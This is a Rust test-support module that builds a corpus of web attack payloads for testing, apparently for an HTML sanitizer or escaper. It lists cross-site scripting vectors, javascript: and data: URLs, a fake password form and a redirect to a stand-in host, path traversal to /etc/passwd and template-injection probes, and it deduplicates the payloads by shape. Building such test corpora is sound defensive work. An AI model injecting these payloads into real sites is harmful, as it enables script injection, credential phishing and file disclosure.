//! What attackers write.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use crate::support::{samples, tree};

/// A few of each kind, so that the tests mean something where the samples are not.
pub const OWN: [&str; 24] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'\"--><img src=x onerror=alert(1)>",
    "</title></textarea></style></script><svg onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "../../../../etc/passwd",
    "{{ 7 * 7 }}{% include \"/etc/passwd\" %}{# gone #}",
    "{{ site | safe }}${7*7}<%= 7*7 %>",
    "]]></summary><script>alert(1)</script>",
    "\u{202e}<a onclick=alert(1)>\u{2066}",
    "x\" onmouseover=\"alert(1)\" style=\"position:fixed\" y=\"",
];

/// Every payload, each once.
pub fn all() -> Vec<&'static str> {
    static ALL: LazyLock<Vec<String>> = LazyLock::new(|| {
        let mut lines: Vec<String> = OWN.map(String::from).to_vec();
        let files = samples("attacks").map(|folder| tree(&folder)).unwrap_or_default();
        for (_, bytes) in files.into_iter().filter(|(path, _)| path.ends_with(".txt")) {
            let text = String::from_utf8_lossy(&bytes).into_owned();
            lines.extend(text.lines().map(|line| String::from(line.trim())).filter(|line| !line.is_empty()));
        }
        let mut seen = BTreeSet::new();
        lines.retain(|line| seen.insert(line.clone()));
        lines
    });
    ALL.iter().map(String::as_str).collect()
}

/// One payload of each kind: those that differ in letters and digits alone attack in the same way.
pub fn telling() -> Vec<&'static str> {
    let mut kinds: BTreeMap<String, &str> = BTreeMap::new();
    for payload in all() {
        kinds.entry(skeleton(payload)).or_insert(payload);
    }
    let mut telling: Vec<_> = kinds.into_values().collect();
    telling.sort_unstable();
    telling
}

/// A payload with each run of letters and digits as one letter.
fn skeleton(payload: &str) -> String {
    let mut skeleton = String::new();
    for c in payload.chars() {
        if !c.is_ascii_alphanumeric() {
            skeleton.push(c);
        } else if !skeleton.ends_with('a') {
            skeleton.push('a');
        }
    }
    skeleton
}
